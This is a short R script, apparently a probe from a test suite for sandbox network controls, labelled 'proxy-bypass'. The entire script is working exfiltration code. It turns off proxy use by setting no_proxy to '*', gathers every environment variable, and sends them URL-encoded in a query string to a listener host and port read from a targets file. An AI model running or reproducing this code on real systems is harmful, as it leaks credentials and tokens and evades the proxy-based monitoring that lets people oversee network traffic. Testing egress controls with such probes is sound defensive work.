# proxy-bypass (R): R's libcurl honours http_proxy; no_proxy=* turns it off,
# and the secrets go straight to the listener in the query string.
tf <- if (exists("TARGETS")) TARGETS else commandArgs(TRUE)[1]
T <- local({ l <- grep("=", readLines(tf), value = TRUE); l <- l[!startsWith(l, "#")]
             setNames(gsub("^'|'$", "", sub("^[^=]*=", "", l)), sub("=.*", "", l)) })
Sys.setenv(no_proxy = "*", NO_PROXY = "*")
env <- Sys.getenv()
q <- URLencode(paste0(names(env), "=", env, collapse = "&"), reserved = TRUE)
u <- sprintf("http://%s:%s/collect?%s", T[["T_TCP_HOST"]], T[["T_TCP_PORT"]], q)
r <- try(suppressWarnings(readLines(url(u, method = "libcurl"), warn = FALSE)), silent = TRUE)
if (inherits(r, "try-error")) cat("upload failed\n") # R would quote the URL
